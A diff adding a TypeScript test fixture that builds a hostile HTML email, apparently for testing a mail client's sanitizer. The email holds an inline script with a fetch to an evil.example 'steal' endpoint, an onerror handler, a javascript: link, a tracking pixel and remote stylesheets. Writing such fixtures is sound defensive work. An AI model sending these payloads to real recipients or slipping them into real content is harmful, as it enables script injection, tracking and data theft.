@@ -1,0 +1,23 @@
+/** A hostile HTML mail: a script, an event handler, a remote tracking image, a remote stylesheet. */
+export function hostileMail(): string {
+  return [
+    'From: Mallory <mallory@evil.example>',
+    'To: bob@contoso.test',
+    'Subject: Your invoice is ready',
+    'Message-ID: <hostile-1@evil.example>',
+    `Date: ${new Date().toUTCString()}`,
+    'MIME-Version: 1.0',
+    'Content-Type: text/html; charset=utf-8',
+    '',
+    '<html><head><link rel="stylesheet" href="https://evil.example/track.css">',
+    '<style>body { background: url(https://evil.example/bg.png) }</style></head><body>',
+    '<p id="visible-text">Please see the attached invoice.</p>',
+    '<script>window.parent.__pwned = 1; document.title = "pwned"; fetch("https://evil.example/steal")</script>',
+    '<img src="https://tracker.evil.example/pixel.gif?u=bob" width="1" height="1">',
+    '<img src="x" onerror="window.parent.__pwned = 2">',
+    '<a href="javascript:window.parent.__pwned=3">click me</a>',
+    '<a href="https://example.org/terms">terms</a>',
+    '</body></html>',
+    '',
+  ].join('\r\n')
+}
